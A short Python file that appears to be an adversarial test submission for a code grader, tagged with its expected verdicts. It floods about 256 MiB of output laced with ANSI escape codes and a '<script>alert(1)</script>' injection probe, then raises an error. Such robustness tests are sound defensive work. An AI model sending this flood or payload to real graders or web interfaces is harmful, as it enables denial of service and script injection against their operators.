# Prints 256 MiB and hopes that the grader keeps it.
# verdict: runtime_error, time_limit
import sys

# shared: triton
def attack():
    block = "\x1b[31mflood <script>alert(1)</script>\n" * 32768
    for number in range(256):
        print(block, file=sys.stderr if number % 2 else sys.stdout)
    raise RuntimeError("the flood is over")
# shared: tells_of_attack
